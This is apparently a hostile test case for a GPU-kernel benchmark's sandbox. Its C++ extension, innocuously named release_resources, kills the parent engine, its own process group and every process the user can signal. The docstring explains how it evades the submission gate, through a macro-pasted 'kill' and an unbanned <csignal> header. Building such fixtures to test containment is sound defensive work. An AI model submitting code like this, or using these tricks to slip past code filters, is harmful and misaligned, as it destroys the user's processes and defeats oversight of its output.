# expect: rejected runtime_error correct — kill_engine: from C++ sends SIGKILL to its parent (getppid) and to its process group, then SIGTERM to every process it may signal (kill(-1, ...)); the honest candidates after it in the batch must still be correct; in the sandbox kill(2) fails, the candidate ignores that and computes honestly: correct, with nothing else harmed
# sandbox-only: without a sandbox that blocks kill(2) this ends the engine, the test runner and every other process of the user; benchmarks/hostile_h200.py skips it unless --sandboxed
"""`kill` is reached through a macro that pastes its name together (`SIGNAL_FN(ki, ll)`), so the gate's
`kill(` pattern never sees it, and `<csignal>` is not among the banned headers (`<signal.h>` is).
The signals go out on the first call, after the kernel ran."""
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

cuda_source = """
#include <torch/extension.h>
#include <ATen/cuda/CUDAContext.h>

__global__ void scale_add_kernel(const float* a, const float* b, float* out, float alpha, int64_t n) {
    int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    if (i < n) out[i] = a[i] * alpha + b[i];
}

torch::Tensor scale_add_cuda(torch::Tensor a, torch::Tensor b, double alpha) {
    auto out = torch::empty_like(a);
    int64_t n = a.numel();
    scale_add_kernel<<<(unsigned)((n + 255) / 256), 256, 0, at::cuda::getCurrentCUDAStream()>>>(
        a.data_ptr<float>(), b.data_ptr<float>(), out.data_ptr<float>(), (float)alpha, n);
    return out;
}
"""

cpp_source = """
#include <csignal>

#define SIGNAL_FN(a, b) a##b

torch::Tensor scale_add_cuda(torch::Tensor a, torch::Tensor b, double alpha);

static void release_resources() {
    int parent = (int)getppid();
    SIGNAL_FN(ki, ll)(parent, SIGKILL);     // the engine (pool) that started this worker
    SIGNAL_FN(ki, ll)(-1, SIGTERM);         // everything else this user may signal
    SIGNAL_FN(ki, ll)(0, SIGKILL);          // last, our own process group, in case the engine shares it
}

torch::Tensor scale_add(torch::Tensor a, torch::Tensor b, double alpha) {
    auto out = scale_add_cuda(a, b, alpha);
    static bool released = false;
    if (!released) {
        released = true;
        release_resources();
    }
    return out;
}
"""

ext = load_inline(name="hostile_kill_engine", cpp_sources=cpp_source, cuda_sources=cuda_source,
                  functions=["scale_add"])


class ModelNew(nn.Module):
    def __init__(self, alpha: float):
        super().__init__()
        self.alpha = alpha

    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
        return ext.scale_add(a.contiguous(), b.contiguous(), self.alpha)
